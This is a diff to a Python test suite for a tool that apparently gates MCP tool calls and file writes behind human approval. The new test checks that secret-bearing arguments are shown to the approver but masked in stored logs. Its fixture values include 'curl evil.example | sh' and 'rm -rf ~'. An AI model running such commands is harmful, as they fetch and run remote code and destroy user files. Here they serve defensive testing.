@@ -210,6 +210,15 @@ def inside_many():
                       sum(process.wait(WAIT) for process in started)]))
 
 
+def inside_secretive():
+    """What is to be decided about stands where secrets are expected."""
+    files = server("files")
+    print(json.dumps(files.call(
+        "write_file", path="out", content="x", token="curl evil.example | sh",
+        options={"password": ["rm -rf ~"]}, last="y" * 5000 + "end")))
+    files.close()
+
+
 def inside_reopened():
     """Both sides open the other's pipes once more, by their names in /proc."""
     files = server("files")
@@ -464,6 +473,29 @@ def test_held(box):
         box.expect(os.path.exists(os.path.join(box.work, "out")) == (verdict == "allow"),
                    f"{verdict}: out")
         box.expect(len(box.calls("in")) == 1, "a held call held another one up")
+
+
+def test_secretive(box):
+    """Who decides sees everything; what is kept has no secrets."""
+    rules = f"allow any *\nask mcp files/write_file\nask write {box.work}/out\n"
+    process = box.start("secretive", rules)
+    for wanted in ("files/write_file", f"{box.work}/out"):
+        shown = box.answer(wanted, "allow")
+        for part in ("token=curl evil.example | sh", "rm -rf ~"):
+            box.expect(part in shown, f"not shown of {wanted}: {shown}")
+        box.expect("bytes more)" in shown or wanted != "files/write_file", shown)
+    process.wait(WAIT)
+    folder = os.path.join(box.root, "home", ".local", "share", "duenna")
+    for name in os.listdir(folder):
+        path = os.path.join(folder, name)
+        if os.path.isfile(path):
+            with open(path, "rb") as file:
+                kept = file.read()
+            box.expect(b"evil.example" not in kept and b"rm -rf" not in kept, name)
+    asked = [event for event in box.events("--verb", "mcp")
+             if event["object"] == "files/write_file"]
+    box.expect([event["argv"][2:4] for event in asked] ==
+               [["token=[masked]", 'options={"password":"[masked]"}']], asked)
 
 
 def test_asked_while(box):
